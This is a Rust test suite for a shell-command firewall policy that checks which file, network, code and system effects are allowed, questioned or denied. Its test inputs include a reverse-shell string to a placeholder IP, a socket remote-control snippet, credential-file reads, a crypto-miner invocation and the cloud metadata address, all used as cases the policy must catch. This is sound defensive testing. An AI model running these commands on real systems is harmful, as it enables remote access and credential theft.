//! Hand-made effects and the rule that each of them meets, alone and contained.

use shward_analysis::{
    Certainty, Covers, Effect, EffectKind, Endpoint, Field, Invocation, Origins, Plan, Rest, Scope, Target,
    Unknown as Reason, Value, WriteMode,
};
use shward_policy::{Context, Decision, Policy, Profile, Tier, Verdict, decide, rules};
use shward_syntax::Span;

const NONE: Covers = Covers {
    root: false,
    home: false,
    workspace: false,
    repository: false,
    system: false,
    secrets: false,
    processes: false,
    own: false,
    obeyed: false,
    guarded: false,
};

fn context(contained: bool) -> Context<'static> {
    Context { contained, cwd: b"/home/u/proj", workspace: b"/home/u/proj", home: b"/home/u" }
}

fn verdict_of(profile: Profile, effects: &[Effect<'_>], contained: bool) -> Verdict {
    let plan = Plan { invocations: &[], effects, refused: None, notes: &[], led: &[] };
    decide(&Policy::new(profile), &plan, &context(contained))
}

fn effect(kind: EffectKind<'_>) -> Effect<'_> {
    Effect::new(kind, Certainty::Certain, Span::new(0, 1), None)
}

fn at(scope: Scope, path: &'static str) -> Target<'static> {
    Target { path: path.as_bytes(), rest: Rest::Exact, scope, tree: false, covers: NONE }
}

fn tree(scope: Scope, path: &'static str) -> Target<'static> {
    Target { tree: true, ..at(scope, path) }
}

fn glob(scope: Scope, path: &'static str) -> Target<'static> {
    Target { rest: Rest::Glob, ..at(scope, path) }
}

fn lost(scope: Scope) -> Target<'static> {
    Target { rest: Rest::Unknown, ..at(scope, "") }
}

fn read(target: Target<'static>) -> EffectKind<'static> {
    EffectKind::Read { target }
}

fn write(target: Target<'static>) -> EffectKind<'static> {
    EffectKind::Write { target, mode: WriteMode::Replace, content: Origins::LITERAL }
}

fn delete(target: Target<'static>) -> EffectKind<'static> {
    EffectKind::Delete { target, kept: false }
}

fn metadata(target: Target<'static>, what: &'static str) -> EffectKind<'static> {
    EffectKind::Metadata { target, what }
}

fn execute(target: Target<'static>) -> EffectKind<'static> {
    EffectKind::Execute { target, origin: Origins::LITERAL }
}

fn code(language: &'static str, origin: Origins) -> EffectKind<'static> {
    EffectKind::Code { language, text: None, origin, source: None }
}

fn connect(host: &'static str, sends: Origins) -> EffectKind<'static> {
    let loopback = host == "localhost";
    let endpoint = Endpoint { host: Some(host.as_bytes()), port: None, scheme: b"", loopback };
    EffectKind::Connect { endpoint, sends, source: None }
}

fn unknown(reason: Reason<'static>) -> EffectKind<'static> {
    EffectKind::Unknown { reason }
}

use Decision::{Allow, Ask, Deny};
use Scope::*;

/// Effect, decision when somebody else runs it, decision when shward runs it, the rule that says so.
#[rustfmt::skip]
fn table() -> Vec<(EffectKind<'static>, Decision, Decision, &'static str)> {
    let w = "/home/u/proj";
    let covering = |set: fn(&mut Covers)| { let mut covers = NONE; set(&mut covers); covers };
    let home = Target { covers: covering(|c| c.home = true), ..tree(Home, "/home/u") };
    let root = Target { covers: covering(|c| c.root = true), ..tree(System, "/") };
    let etc = Target { covers: covering(|c| c.system = true), ..tree(System, "/etc") };
    let workspace = Target { covers: covering(|c| c.workspace = true), ..tree(Workspace, w) };
    let repository = Target { covers: covering(|c| c.repository = true), ..tree(Repository, "/home/u/proj/.git") };
    let own = Target { covers: covering(|c| c.own = true), ..tree(Home, "/home/u/.config") };
    let secrets = Target { covers: covering(|c| c.secrets = true), ..tree(Home, "/home/u/.config") };
    let all_root = Target { covers: root.covers, ..glob(System, "/") };
    let accident = Target { covers: home.covers, tree: true, ..lost(Unknown) };
    vec![
        // Reading.
        (read(at(Workspace, "/home/u/proj/x")), Allow, Allow, ""),
        (read(at(System, "/etc/passwd")), Allow, Allow, ""),
        (read(at(Persistence, "/home/u/.bashrc")), Allow, Allow, ""),
        (read(tree(Workspace, w)), Allow, Allow, ""),
        (read(at(Device, "/proc/sys/kernel/hostname")), Allow, Allow, ""),
        (read(at(Harmless, "/dev/null")), Allow, Allow, ""),
        (read(at(Secret, "/home/u/.ssh/id_rsa")), Deny, Deny, "secret-read"),
        (read(at(Secret, "/home/u/proj/.env")), Deny, Deny, "secret-read"),
        (read(glob(Secret, "/home/u/.ssh")), Deny, Deny, "secret-read"),
        (read(glob(Secret, w)), Ask, Ask, "secret-read-perhaps"),
        (read(lost(Secret)), Ask, Ask, "secret-read-perhaps"),
        (read(secrets), Ask, Allow, "secrets-searched"),
        (read(at(Device, "/dev/sda")), Deny, Deny, "device-read"),
        (read(at(Environment, "/proc/1/environ")), Deny, Deny, "memory-read"),
        (read(at(Environment, "")), Ask, Allow, "environment-read"),
        (read(at(Own, "/home/u/.config/shward/policy.toml")), Ask, Ask, "own-read"),
        (read(lost(Unknown)), Ask, Allow, "unknown-read"),
        (EffectKind::List { target: at(Secret, "/home/u/.ssh") }, Allow, Allow, ""),
        (EffectKind::List { target: root }, Allow, Allow, ""),
        // Writing.
        (write(at(Workspace, "/home/u/proj/x")), Allow, Allow, ""),
        (write(at(Temp, "/tmp/x")), Allow, Allow, ""),
        (write(at(Harmless, "/dev/null")), Allow, Allow, ""),
        (write(at(Product, "/home/u/proj/target/x")), Allow, Allow, ""),
        (write(at(Home, "/home/u/x")), Ask, Allow, "outside-written"),
        (write(at(Elsewhere, "/data/x")), Ask, Allow, "outside-written"),
        (write(lost(Unknown)), Ask, Allow, "unknown-written"),
        (write(at(Repository, "/home/u/proj/.git/index")), Ask, Ask, "repository-changed"),
        (write(at(Secret, "/home/u/proj/.env")), Ask, Ask, "secret-changed"),
        (delete(at(Secret, "/home/u/.bash_history")), Deny, Deny, "traces-erased"),
        (write(at(Secret, "/etc/shadow")), Deny, Deny, "secret-of-system-changed"),
        (write(at(System, "/")), Ask, Allow, "outside-written"),
        (
            EffectKind::Write { target: at(System, "/"), mode: WriteMode::Below, content: Origins::FILE },
            Deny,
            Deny,
            "system-changed",
        ),
        (write(at(System, "/usr/bin/ls")), Deny, Deny, "system-changed"),
        (write(at(Persistence, "/home/u/.bashrc")), Deny, Deny, "persistence-written"),
        (write(at(Persistence, "/home/u/proj/.git/hooks/pre-commit")), Deny, Deny, "persistence-written"),
        (write(at(Device, "/dev/sda")), Deny, Deny, "device-changed"),
        (write(at(Own, "/home/u/.claude/settings.json")), Deny, Deny, "own-changed"),
        // Deleting.
        (delete(at(Workspace, "/home/u/proj/x")), Allow, Allow, ""),
        (delete(tree(Product, "/home/u/proj/target")), Allow, Allow, ""),
        (delete(at(Temp, "/tmp/x")), Allow, Allow, ""),
        (delete(tree(Temp, "/tmp/x")), Ask, Allow, "temporary-deleted"),
        (delete(tree(Workspace, "/home/u/proj/src")), Ask, Ask, "many-deleted"),
        (delete(glob(Workspace, w)), Ask, Ask, "many-deleted"),
        (
            EffectKind::Write { target: glob(Workspace, w), mode: WriteMode::Truncate, content: Origins::NONE },
            Ask,
            Ask,
            "many-emptied",
        ),
        (delete(workspace), Ask, Ask, "workspace-destroyed"),
        (delete(repository), Ask, Ask, "history-deleted"),
        (delete(lost(Unknown)), Ask, Ask, "unknown-deleted"),
        (delete(accident), Ask, Ask, "unknown-deleted"),
        (delete(at(Home, "/home/u/x")), Ask, Allow, "outside-file-deleted"),
        (delete(tree(Home, "/home/u/x")), Ask, Ask, "outside-deleted"),
        (delete(home), Deny, Deny, "home-destroyed"),
        (delete(root), Deny, Deny, "root-destroyed"),
        (delete(all_root), Deny, Deny, "root-destroyed"),
        (delete(etc), Deny, Deny, "system-destroyed"),
        (delete(at(System, "/usr/bin/ls")), Deny, Deny, "system-changed"),
        (delete(own), Deny, Deny, "own-changed"),
        // Mode and owner.
        (metadata(at(Workspace, "/home/u/proj/x"), "mode"), Allow, Allow, ""),
        (metadata(tree(Workspace, w), "mode"), Allow, Allow, ""),
        (metadata(at(Workspace, "/home/u/proj/x"), "setuid"), Deny, Deny, "setuid"),
        (metadata(at(Workspace, "/home/u/proj/x"), "world-writable"), Ask, Allow, "opened-to-all"),
        (metadata(at(Workspace, "/home/u/proj/x"), "owner"), Ask, Allow, "owner-changed"),
        (metadata(at(Home, "/home/u/x"), "mode"), Ask, Allow, "outside-metadata"),
        (metadata(root, "owner"), Deny, Deny, "root-destroyed"),
        (metadata(at(System, "/etc/hosts"), "mode"), Deny, Deny, "system-changed"),
        // Programs and code.
        (execute(at(Workspace, "/home/u/proj/run.sh")), Allow, Allow, ""),
        (execute(at(Product, "/home/u/proj/target/debug/x")), Allow, Allow, ""),
        (execute(at(Temp, "/tmp/x")), Ask, Allow, "temporary-program"),
        (execute(at(Unknown, "frobnicate")), Ask, Allow, "unknown-executed"),
        (execute(glob(Workspace, w)), Ask, Allow, "unknown-executed"),
        (code("project", Origins::FILE), Allow, Allow, ""),
        (code("python", Origins::LITERAL), Ask, Allow, "unread-code"),
        (code("python", Origins::WRITTEN.union(Origins::LITERAL)), Ask, Allow, "written-code"),
        (code("python", Origins::WRITTEN.union(Origins::FILE)), Allow, Allow, ""),
        (code("native", Origins::WRITTEN.union(Origins::LITERAL)), Allow, Allow, ""),
        (
            EffectKind::Code {
                language: "ruby",
                text: Some(b"puts 1"),
                origin: Origins::WRITTEN.union(Origins::LITERAL),
                source: None,
            },
            Allow,
            Allow,
            "",
        ),
        (code("native", Origins::WRITTEN.union(Origins::FILE)), Allow, Allow, ""),
        (
            EffectKind::Code { language: "native", text: Some(b"exec /tmp/x"), origin: Origins::WRITTEN, source: None },
            Ask,
            Allow,
            "unread-code",
        ),
        (code("python", Origins::WRITTEN.union(Origins::UNKNOWN)), Ask, Allow, "written-code"),
        (
            EffectKind::Code { language: "shell", text: Some(b"ls"), origin: Origins::DECODED, source: None },
            Ask,
            Allow,
            "decoded-text",
        ),
        (
            EffectKind::Code { language: "shell", text: Some(b"ls"), origin: Origins::LITERAL, source: None },
            Ask,
            Allow,
            "piped-text",
        ),
        (
            EffectKind::Code { language: "lua", text: Some(b"w('/etc/cron.d/x')"), origin: Origins::LITERAL, source: None },
            Deny,
            Deny,
            "protected-in-code",
        ),
        (
            EffectKind::Code { language: "lua", text: Some(&[b'0'; 70_000]), origin: Origins::LITERAL, source: None },
            Deny,
            Deny,
            "long-code",
        ),
        (code("shell", Origins::UNKNOWN), Ask, Allow, "unread-code"),
        (code("terminal", Origins::TERMINAL), Deny, Deny, "terminal-code"),
        (code("shell", Origins::NETWORK), Deny, Deny, "network-code"),
        (code("shell", Origins::DECODED.union(Origins::FILE)), Deny, Deny, "decoded-code"),
        (code("shell", Origins::SECRET), Deny, Deny, "secret-code"),
        // Network.
        (connect("example.com", Origins::NONE), Ask, Allow, "network"),
        (connect("example.com", Origins::LITERAL), Ask, Allow, "network"),
        (connect("example.com", Origins::FILE), Ask, Ask, "data-sent"),
        (connect("example.com", Origins::WRITTEN), Ask, Allow, "network"),
        (connect("example.com", Origins::SECRET), Deny, Deny, "secret-sent"),
        (connect("example.com", Origins::ALL_VARIABLES), Deny, Deny, "environment-sent"),
        (connect("example.com", Origins::ENVIRONMENT), Ask, Ask, "data-sent"),
        (connect("localhost", Origins::FILE), Allow, Allow, ""),
        (connect("localhost", Origins::SECRET), Deny, Deny, "secret-sent"),
        (connect("169.254.169.254", Origins::NONE), Deny, Deny, "metadata-service"),
        (EffectKind::Listen { endpoint: Endpoint::UNKNOWN }, Ask, Allow, "listen"),
        // Processes, rights, the machine.
        (EffectKind::Signal { what: "own" }, Allow, Allow, ""),
        (EffectKind::Signal { what: "process" }, Ask, Allow, "process-signalled"),
        (EffectKind::Signal { what: "all" }, Deny, Deny, "all-killed"),
        (EffectKind::Privilege { what: "sudo" }, Ask, Allow, "privilege"),
        (EffectKind::Privilege { what: "container" }, Ask, Ask, "rights-changed"),
        (EffectKind::Privilege { what: "capability" }, Deny, Deny, "rights-given"),
        (EffectKind::Persist { what: "cron" }, Deny, Deny, "persistence"),
        (EffectKind::System { what: "service" }, Deny, Deny, "system"),
        (EffectKind::System { what: "network" }, Ask, Ask, "network-configured"),
        (EffectKind::System { what: "firewall" }, Deny, Deny, "system"),
        (EffectKind::System { what: "disk" }, Deny, Deny, "disk-destroyed"),
        (EffectKind::System { what: "process-limits" }, Deny, Deny, "fork-bomb"),
        (EffectKind::System { what: "limits" }, Deny, Deny, "fork-bomb"),
        (EffectKind::System { what: "display" }, Ask, Allow, "limits-changed"),
        // Packages, histories, other machines.
        (EffectKind::Package { action: "install" }, Ask, Allow, "packages-changed"),
        (EffectKind::Package { action: "publish" }, Ask, Ask, "published"),
        (EffectKind::Vcs { action: "commit" }, Allow, Allow, ""),
        (EffectKind::Vcs { action: "branch" }, Allow, Allow, ""),
        (EffectKind::Vcs { action: "push" }, Ask, Ask, "push"),
        (EffectKind::Vcs { action: "force-push" }, Ask, Ask, "history-rewritten"),
        (EffectKind::Vcs { action: "rewrite" }, Ask, Ask, "history-rewritten"),
        (EffectKind::Vcs { action: "discard" }, Ask, Ask, "changes-discarded"),
        (EffectKind::Vcs { action: "config" }, Ask, Allow, "vcs-configured"),
        (EffectKind::Remote { action: "read", service: "docker" }, Ask, Allow, "remote-read"),
        (EffectKind::Remote { action: "change", service: "aws" }, Ask, Ask, "remote-changed"),
        (EffectKind::Remote { action: "destroy", service: "aws" }, Ask, Ask, "remote-destroyed"),
        // Not understood.
        (unknown(Reason::Program), Ask, Ask, "unknown-program"),
        (unknown(Reason::Option(b"--x")), Ask, Allow, "unknown-option"),
        (unknown(Reason::Subcommand(b"x")), Ask, Allow, "unknown-option"),
        (unknown(Reason::Argument), Ask, Allow, "unknown-construct"),
        (unknown(Reason::Construct("coproc")), Ask, Allow, "unknown-construct"),
        (unknown(Reason::Variable(b"LD_PRELOAD")), Ask, Ask, "loader-variable"),
        (unknown(Reason::Variable(b"FOO")), Ask, Allow, "unknown-variable"),
        (unknown(Reason::Budget("time")), Ask, Ask, "too-much"),
        (unknown(Reason::Exhausted("time")), Deny, Deny, "not-followed"),
        (unknown(Reason::Syntax), Ask, Ask, "not-parsed"),
    ]
}

#[test]
fn each_effect_meets_its_rule() {
    for (kind, alone, contained, rule) in table() {
        for (is_contained, expect) in [(false, alone), (true, contained)] {
            let verdict = verdict_of(Profile::Workspace, &[effect(kind)], is_contained);
            assert_eq!(verdict.decision(), expect, "{kind:?} contained: {is_contained}");
            let found = verdict.findings().first().map_or("", |finding| &*finding.rule);
            assert_eq!(found, if expect == Allow { "" } else { rule }, "{kind:?}");
            assert_eq!(verdict.grant().is_some(), expect != Deny, "a grant belongs to what may run");
        }
    }
}

#[test]
fn what_a_project_keeps_secret_is_its_own_wherever_it_lies() {
    for (workspace, path, rule) in [
        ("/usr/src/app", "/usr/src/app/.env", "secret-changed"),
        ("/var/www/app", "/var/www/app/config/.env", "secret-changed"),
        ("/var/www/app", "/var/www/other/.env", "secret-of-system-changed"),
        ("/var/www/app", "/etc/shadow", "secret-of-system-changed"),
        ("/var/lib", "/var/lib/app/.env", "secret-of-system-changed"),
        ("/usr", "/usr/src/app/.env", "secret-of-system-changed"),
        ("/usr/src/", "/usr/src/.env", "secret-of-system-changed"),
        ("/var/run/secrets", "/var/run/secrets/.env", "secret-of-system-changed"),
        ("/var/lib/samba/private", "/var/lib/samba/private/.env", "secret-of-system-changed"),
        ("/usr/local/etc/app", "/usr/local/etc/app/.env", "secret-of-system-changed"),
        ("/etc/ssh/keys", "/etc/ssh/keys/ssh_host_rsa_key", "secret-of-system-changed"),
        ("/", "/var/www/app/.env", "secret-of-system-changed"),
        ("/opt/app", "/opt/app/.env", "secret-changed"),
        ("/srv", "/srv/app/.env", "secret-changed"),
        ("/dev/shm/w", "/dev/shm/.env", "secret-changed"),
        ("/w", "/opt/app/.netrc", "system-changed"),
        ("/opt/app", "/opt/other/.env", "system-changed"),
        ("/w", "/proc/1/.netrc", "system-changed"),
        ("/", "/opt/app/.env", "system-changed"),
    ] {
        let context = Context { workspace: workspace.as_bytes(), ..context(false) };
        let effects = [effect(write(at(Secret, path)))];
        let plan = Plan { invocations: &[], effects: &effects, refused: None, notes: &[], led: &[] };
        let verdict = decide(&Policy::new(Profile::Workspace), &plan, &context);
        let found: Vec<&str> = verdict.findings().iter().map(|finding| &*finding.rule).collect();
        assert_eq!(found, [rule], "{path} in {workspace}");
    }
}

#[test]
fn every_rule_is_met_by_some_effect() {
    let mut met: Vec<&str> = table().into_iter().map(|(_, _, _, rule)| rule).collect();
    // Rules on programs, not effects, and the rule of another profile, have tests of their own.
    met.extend(["firewall-controlled", "miner", "read-only", "syntax"]);
    met.extend([
        "syntax",
        "reverse-shell",
        "secret-named",
        "shell-started",
        "remote-control",
        "protected-named",
        "long-argument",
        "shell-named",
    ]);
    for rule in rules() {
        assert!(met.contains(&rule.id), "{} is met by no row", rule.id);
    }
}

#[test]
fn containment_never_makes_stricter() {
    for rule in rules() {
        assert!(rule.contained <= rule.alone, "{}", rule.id);
        assert!(rule.alone > Allow, "{} decides nothing", rule.id);
    }
}

#[test]
fn the_catastrophic_tier_and_the_floor_are_denied() {
    for rule in rules() {
        if rule.tier == Tier::Four || rule.floor {
            assert_eq!((rule.alone, rule.contained), (Deny, Deny), "{}", rule.id);
        }
    }
}

#[test]
#[cfg_attr(feature = "unrestricted", ignore = "this build has no floor")]
fn the_floor_holds_in_every_profile() {
    let floor: Vec<&str> = rules().filter(|rule| rule.floor).map(|rule| rule.id).collect();
    let mut held = 0;
    for (kind, _, _, rule) in table() {
        if floor.contains(&rule) {
            held += 1;
            for profile in Profile::ALL {
                let verdict = verdict_of(*profile, &[effect(kind)], true);
                assert_eq!(verdict.decision(), Deny, "{kind:?} in {}", profile.name());
            }
        }
    }
    assert!(held >= 10, "the table has lost its floor rows");
}

#[test]
fn open_denies_only_the_floor_and_read_only_all_but_reading() {
    for (kind, ..) in table() {
        let open = verdict_of(Profile::Open, &[effect(kind)], false);
        assert!(open.findings().iter().all(|finding| finding.decision == Deny), "{kind:?}");
        let workspace = verdict_of(Profile::Workspace, &[effect(kind)], false);
        let read_only = verdict_of(Profile::ReadOnly, &[effect(kind)], false);
        assert!(
            open.decision() <= workspace.decision() && workspace.decision() <= read_only.decision(),
            "{kind:?}"
        );
        let reads = match kind {
            EffectKind::Read { .. } | EffectKind::List { .. } => true,
            EffectKind::Write { target, .. } => target.scope == Harmless,
            _ => false,
        };
        let expect = if reads { workspace.decision() } else { Deny };
        assert_eq!(read_only.decision(), expect, "{kind:?}");
    }
}

#[test]
fn tiers_come_from_effects() {
    for (kind, tier) in [
        (read(at(System, "/etc/passwd")), Tier::One),
        (write(at(Workspace, "/home/u/proj/x")), Tier::Two),
        (EffectKind::Vcs { action: "commit" }, Tier::Two),
        (connect("example.com", Origins::NONE), Tier::Two),
        (EffectKind::Privilege { what: "sudo" }, Tier::Three),
        (delete(tree(Workspace, "/home/u/proj/src")), Tier::Three),
        (write(at(Device, "/dev/sda")), Tier::Four),
    ] {
        assert_eq!(verdict_of(Profile::Workspace, &[effect(kind)], false).tier(), tier, "{kind:?}");
        // Containment changes what is decided, not what is at stake.
        assert_eq!(verdict_of(Profile::Workspace, &[effect(kind)], true).tier(), tier, "{kind:?}");
    }
}

#[test]
fn messages_are_whole_sentences_with_the_effect_in_them() {
    for (kind, ..) in table() {
        for finding in verdict_of(Profile::Workspace, &[effect(kind)], false).findings() {
            let text = &finding.message;
            assert!(text.ends_with('.') && !text.contains(['{', '}']) && !text.contains("  "), "{text}");
        }
    }
    let verdict = verdict_of(Profile::Workspace, &[effect(read(at(Secret, "/home/u/.ssh/id_rsa")))], false);
    assert!(verdict.findings()[0].message.contains("`/home/u/.ssh/id_rsa`"));
}

#[test]
fn findings_are_sorted_told_once_and_bounded() {
    let mut effects = vec![effect(connect("example.com", Origins::NONE)); 50];
    for (at, effect) in effects.iter_mut().enumerate() {
        effect.span = Span::new(at as u32, at as u32 + 1);
    }
    effects.extend([effect(connect("example.com", Origins::NONE)); 3]);
    effects.push(effect(read(at(Secret, "/home/u/.netrc"))));
    let verdict = verdict_of(Profile::Workspace, &effects, false);
    let rules: Vec<&str> = verdict.findings().iter().map(|finding| &*finding.rule).collect();
    assert_eq!(rules, ["secret-read", "network", "network", "network", "network"]);
}

#[test]
fn the_grant_is_no_wider_than_the_plan() {
    let grant = |kind| verdict_of(Profile::Workspace, &[effect(kind)], true).grant().unwrap().clone();
    assert!(!grant(read(at(Workspace, "/home/u/proj/x"))).workspace);
    assert!(!grant(write(at(Temp, "/tmp/x"))).workspace);
    assert!(grant(write(at(Workspace, "/home/u/proj/x"))).workspace);
    assert!(grant(write(lost(Unknown))).workspace);
    assert!(grant(execute(at(Unknown, "frobnicate"))).workspace);
    assert!(grant(unknown(Reason::Program)).workspace);
    assert_eq!(grant(connect("localhost", Origins::NONE)).network, shward_policy::Network::Loopback);
    assert_eq!(grant(connect("example.com", Origins::NONE)).network, shward_policy::Network::None);
}

#[test]
fn homes_are_granted_unless_nothing_there_is_needed() {
    let cat = |kind| verdict_started(&["cat", "x"], true, kind).grant().unwrap().homes;
    assert!(!cat(read(at(Workspace, "/home/u/proj/x"))));
    assert!(!cat(read(at(System, "/etc/os-release"))));
    let whole = Target { tree: true, ..at(Workspace, "/home/u/proj/sub") };
    for kind in [
        read(at(Home, "/home/u/x")),
        read(at(Elsewhere, "/home/v/x")),
        read(at(System, "/root/x")),
        read(lost(Workspace)),
        read(whole),
        execute(at(Workspace, "/home/u/proj/x")),
        unknown(Reason::Program),
    ] {
        assert!(cat(kind), "{kind:?}");
    }
    // What looks at files unasked, follows links that nobody has named, or is not known.
    for (argv, no_own_files) in [
        (&["git", "status"] as &[&'static str], false),
        (&["ls", "-lL", "x"], true),
        (&["grep", "--dereference-recursive", "x"], true),
        (&["cat", "x"], false),
    ] {
        let verdict = verdict_started(argv, no_own_files, read(at(Workspace, "/home/u/proj/x")));
        assert!(verdict.grant().unwrap().homes, "{argv:?}");
    }
}

/// The verdict on one program, of which one effect is known.
fn verdict_on(argv: &[&'static str], kind: EffectKind<'static>) -> Verdict {
    verdict_started(argv, false, kind)
}

/// The same of one that is known to have no files of its own.
fn verdict_started(argv: &[&'static str], no_own_files: bool, kind: EffectKind<'static>) -> Verdict {
    let word = |text: &&'static str| Field {
        value: Value::text(text.as_bytes(), Origins::LITERAL),
        span: Span::new(0, 1),
        many: false,
    };
    let argv: Vec<Field<'_>> = argv.iter().map(word).collect();
    let invocation = Invocation {
        program: argv.first().and_then(Field::known),
        argv: &argv,
        cwd: None,
        env: &[],
        stdin: Origins::NONE,
        certain: true,
        builtin: false,
        no_own_files,
        span: Span::new(0, 1),
    };
    let effects = [Effect::new(kind, Certainty::Certain, Span::new(0, 1), Some(0))];
    let plan = Plan { invocations: &[invocation], effects: &effects, refused: None, notes: &[], led: &[] };
    decide(&Policy::default(), &plan, &context(true))
}

#[test]
fn programs_that_no_effect_tells_of_are_named() {
    for (argv, rule) in [
        (&["shward", "approve", "42"] as &[&'static str], "firewall-controlled"),
        (&["/usr/bin/shward", "--json", "policy", "trust"], "firewall-controlled"),
        (&["shward", "deny", "42"], "firewall-controlled"),
        (&["shward", "install", "claude"], "firewall-controlled"),
        (&["shward", "uninstall", "claude"], "firewall-controlled"),
        (&["shward", "undo"], "firewall-controlled"),
        (&["shward", "init"], "firewall-controlled"),
        (&["shward", "hook", "claude"], "firewall-controlled"),
        (&["shward", "serve"], "firewall-controlled"),
        (&["shward", "check", "--", "ls"], ""),
        (&["xmrig", "-o", "pool"], "miner"),
        (&["./XMRig"], "miner"),
        (&["ls", "shward"], ""),
        (&["/bin/sh", "-i"], "terminal-code"),
        (&["bash", "-l", "-i"], "terminal-code"),
        (&["bash", "-ic", "ls"], ""),
        (&["bash", "--init-file", "x"], ""),
        (&["bash", "x.sh", "-i"], ""),
    ] {
        let verdict = verdict_on(argv, read(at(Workspace, "/home/u/proj/x")));
        assert_eq!(verdict.findings().first().map_or("", |finding| &*finding.rule), rule, "{argv:?}");
        assert_eq!(verdict.decision() == Deny, !rule.is_empty());
    }
}

#[test]
fn what_is_named_to_the_unknown_counts() {
    let long: &'static str = Box::leak("x ".repeat(100_000).into_boxed_str());
    for (argv, rule) in [
        (&["frobnicate", "notes.txt"] as &[&'static str], ""),
        (&["frobnicate", "/etc/hosts", "https://example.com/x"], ""),
        (&["frobnicate", "/home/u/.ssh/id_rsa"], "secret-named"),
        (&["frobnicate", "--in=/usr/../etc/shadow"], "secret-named"),
        (&["frobnicate", "@~/.netrc"], "secret-named"),
        (&["frobnicate", ".env"], "secret-named"),
        (&["frobnicate", "print(open('/root/.aws/credentials').read())"], "secret-named"),
        (&["frobnicate", "-o", "/home/u/.bashrc"], "protected-named"),
        (&["frobnicate", "/dev/sda"], "protected-named"),
        (&["frobnicate", "/dev/null"], ""),
        (&["frobnicate", "--exec", "/bin/sh"], "shell-started"),
        (&["frobnicate", "--exec=/bin/bash -p"], "shell-started"),
        (&["frobnicate", "os.execl('/bin/sh')"], "shell-started"),
        (&["frobnicate", "/bin/sh -c 'ls'"], "shell-named"),
        (&["frobnicate", "#!/bin/sh\nls"], "shell-named"),
        (&["frobnicate", "run(x, executable='/bin/bash')"], "shell-named"),
        (&["frobnicate", "s=socket.socket(); subprocess.run(s.recv(9))"], "remote-control"),
        (&["frobnicate", "s=fsockopen('192.0.2.1',1);exec('/bin/sh -i <&3')"], "reverse-shell"),
        (&["frobnicate", long], "long-argument"),
    ] {
        for kind in [execute(at(Unknown, "frobnicate")), unknown(Reason::Option(b"--in"))] {
            let verdict = verdict_on(argv, kind);
            assert_eq!(
                verdict.findings().first().map_or("", |finding| &*finding.rule),
                rule,
                "{argv:?} {kind:?}"
            );
        }
        // The project's own programs, and what is understood, may be told such names.
        for kind in
            [execute(at(Workspace, "/home/u/proj/frobnicate")), EffectKind::List { target: at(Secret, "/x") }]
        {
            assert_eq!(verdict_on(argv, kind).decision(), Allow, "{argv:?} {kind:?}");
        }
    }
    let text = Some(b"open('/etc/shadow')" as &[u8]);
    let code = EffectKind::Code { language: "python", text, origin: Origins::LITERAL, source: None };
    assert_eq!(verdict_of(Profile::Workspace, &[effect(code)], true).findings()[0].rule, "secret-named");
}
